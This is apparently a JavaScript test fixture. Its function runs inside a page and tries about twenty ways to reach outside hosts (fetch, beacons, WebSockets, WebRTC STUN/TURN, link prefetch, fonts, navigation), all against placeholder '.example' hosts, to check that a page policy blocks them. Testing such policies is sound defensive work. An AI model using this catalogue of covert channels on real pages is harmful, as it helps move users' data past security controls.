/** What a script in the page could try to get something out with; evaluated there. The policy stops the first alone. */
export async function stealth() {
  const quiet = (/** @type {() => unknown} */ attempt) =>
    Promise.resolve()
      .then(attempt)
      .catch(() => undefined);
  const link = (/** @type {string} */ rel, /** @type {string} */ href) =>
    document.head.append(Object.assign(document.createElement('link'), { rel, href }));
  await quiet(() => fetch('http://fetched.example/'));
  await quiet(() => navigator.sendBeacon('http://beacon.example/', 'x'));
  await quiet(() => new WebSocket('ws://socket.example/'));
  await quiet(() => new EventSource('http://events.example/'));
  await quiet(() => (new Image().src = 'http://image.example/a.png'));
  await quiet(() => new Audio('http://audio.example/a.wav').play());
  await quiet(() => new Worker('http://worker.example/a.js'));
  await quiet(() => new FontFace('a', 'url(http://font.example/a.woff2)').load());
  await quiet(() => link('dns-prefetch', 'http://prefetched-name.example/'));
  await quiet(() => link('preconnect', 'http://preconnected.example/'));
  await quiet(() => link('prefetch', 'http://prefetched.example/'));
  await quiet(() => link('preload', 'http://preloaded.example/'));
  await quiet(() => link('manifest', 'http://manifest.example/'));
  await quiet(() => link('icon', 'http://icon.example/'));
  await quiet(() => link('stylesheet', 'http://style.example/'));
  await quiet(() => new WebTransport('https://transport.example/').ready.catch(() => undefined));
  await quiet(() => window.open('http://opened.example/'));
  await quiet(async () => {
    const urls = ['stun:stun-name.example:3478', 'stun:198.51.100.8:3478', 'stun:198.51.100.8:9'];
    const turn = { urls: 'turn:turn-name.example:443?transport=tcp', username: 'a', credential: 'b' };
    const peer = new RTCPeerConnection({ iceServers: [{ urls }, turn], iceCandidatePoolSize: 4 });
    peer.createDataChannel('a');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 3000));
    peer.close();
  });
  // Last, because where it succeeds this page is gone.
  await quiet(() => (location.href = 'http://navigated.example/'));
}
